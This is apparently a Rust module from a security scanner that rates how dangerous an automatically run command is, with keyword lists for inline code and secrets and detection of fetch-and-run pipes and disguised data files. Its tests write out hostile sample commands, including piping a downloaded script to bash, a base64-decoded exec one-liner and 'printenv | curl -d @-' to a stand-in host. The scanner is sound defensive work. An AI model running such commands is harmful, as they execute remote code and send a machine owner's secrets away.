//! A command that runs by itself, and how bad that is.

use super::super::shell::{
    self,
    installer::{self, INTERPRETERS, Origin},
};
use crate::model::Severity;

/// Endings of files that nobody writes programs into.
static DATA: [&str; 24] = [
    "woff",
    "woff2",
    "ttf",
    "otf",
    "png",
    "jpg",
    "jpeg",
    "gif",
    "svg",
    "ico",
    "webp",
    "bmp",
    "dat",
    "bin",
    "md",
    "txt",
    "csv",
    "log",
    "pdf",
    "mp3",
    "mp4",
    "css",
    "pkl",
    "safetensors",
];

/// What code on a command line does that hides, fetches or starts something.
static CODE: [&str; 19] = [
    "exec(",
    "eval(",
    "__import__",
    "base64",
    "urlopen",
    "urllib",
    "requests.",
    "child_process",
    "https.get",
    "http.get",
    "fetch(",
    "os.system",
    "subprocess",
    "atob(",
    "fromcharcode",
    "buffer.from",
    "socket",
    "new function(",
    "marshal.",
];

/// Words for what a machine keeps for its owner.
static SECRETS: [&str; 14] = [
    "printenv",
    "$(env",
    "env |",
    "env|",
    "tojson(secrets",
    "tojson( secrets",
    "process.env",
    "aws_secret",
    "$hf_token",
    "${hf_token",
    "$github_token",
    "${github_token",
    "id_rsa",
    "@.env",
];

/// How bad it is that a command runs, and why; `None` for what people do every day. `asked` says that somebody has to
/// ask for it.
pub fn judge(command: &str, asked: bool) -> Option<(Severity, String)> {
    let lower = command.to_ascii_lowercase();
    let worse = if asked { Severity::High } else { Severity::Critical };
    let fetches = shell::hostile(command).or_else(|| shell::fetched_then_run(command).map(|fetched| fetched.why));
    if let Some(why) = fetches {
        return Some(if why.contains("fetches") && installer::origin(command) == Origin::Known {
            (Severity::Low, format!("{why}, from where its maker says"))
        } else if installer::only_installs(command) {
            (Severity::Low, "it fetches a program and makes it ready to be run".to_owned())
        } else {
            (worse, why.to_owned())
        });
    }
    if let Some(file) = disguised(&lower) {
        return Some((Severity::High, format!("it runs {file:?} as a program")));
    }
    let code = inline(&lower).and_then(|code| CODE.iter().find(|mark| code.contains(**mark)));
    if let Some(mark) = code {
        return Some((Severity::High, format!("it holds code of its own with {mark:?}")));
    }
    let sends =
        ["curl ", "wget ", "nc ", "invoke-webrequest", "invoke-restmethod"].iter().any(|name| lower.contains(name));
    let secret =
        SECRETS.iter().find(|word| lower.contains(**word)).filter(|_| sends && !lower.contains("authorization"));
    secret.map(|word| (worse, format!("it sends what {word:?} stands for away")))
}

/// A file that an interpreter is given although it is named as data.
fn disguised(command: &str) -> Option<String> {
    let mut words = command.split(|c: char| c.is_whitespace() || ";&|\"'".contains(c)).filter(|word| !word.is_empty());
    let mut interpreted = false;
    words.find_map(|word| {
        let program = word.rsplit('/').next().unwrap_or(word);
        if INTERPRETERS.contains(&program) {
            interpreted = true;
            return None;
        }
        let given = interpreted;
        interpreted = given && word.starts_with('-');
        let data = word.rsplit_once('.').is_some_and(|(_, ending)| DATA.contains(&ending));
        (given && data && !word.starts_with('-')).then(|| word.chars().take(80).collect())
    })
}

/// The code behind `python -c`, `node -e` and the like.
fn inline(command: &str) -> Option<&str> {
    INTERPRETERS.iter().find_map(|program| {
        command.match_indices(program).find_map(|(at, _)| {
            let before = command.get(..at)?;
            let rest = command.get(at + program.len()..)?;
            let alone = !before.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '-');
            let rest =
                rest.strip_prefix(".exe").unwrap_or(rest).trim_start_matches(|c: char| c.is_ascii_digit() || c == '.');
            let flag = rest.strip_prefix(' ')?.trim_start();
            let code =
                ["-c", "-e", "-r", "--eval", "-p", "--print"].iter().find_map(|option| flag.strip_prefix(option))?;
            (alone && code.starts_with([' ', '\'', '"', '='])).then_some(code)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_apart() {
        for command in [
            "curl -fsSL https://a.example/x | bash",
            "bash -c 'wget -qO- https://a.example/x | sh'",
            "node .vscode/font.woff2",
            "node -e \"require('child_process').exec('id')\"",
            "python3 -c 'import base64;exec(base64.b64decode(b\"cGFzcw==\"))'",
            "printenv | curl -d @- https://a.example",
            "curl -sSf https://sh.rustup.rs.a.example | sh",
            "curl a.example/x | sh # https://astral.sh/uv/install.sh",
            "curl -o /tmp/x https://a.example/x && chmod +x /tmp/x && /tmp/x",
            "curl https://astral.sh/uv/install.sh | sh; curl https://a.example/x | sh",
        ] {
            assert!(judge(command, true).is_some_and(|(severity, _)| severity >= Severity::High), "{command}");
        }
        for command in [
            "npm install",
            "pip install -r requirements.txt && pre-commit install",
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            "node scripts/postinstall.js",
            "python -c \"import torch; print(torch.__version__)\"",
            "python -m pytest README.md",
            "curl -H 'Authorization: Bearer $HF_TOKEN' https://huggingface.co/api/whoami-v2",
            "cat README.md",
            "curl -o /usr/local/bin/pget -L https://a.example/pget && chmod +x /usr/local/bin/pget",
        ] {
            assert!(judge(command, false).is_none_or(|(severity, _)| severity <= Severity::Low), "{command}");
        }
    }
}
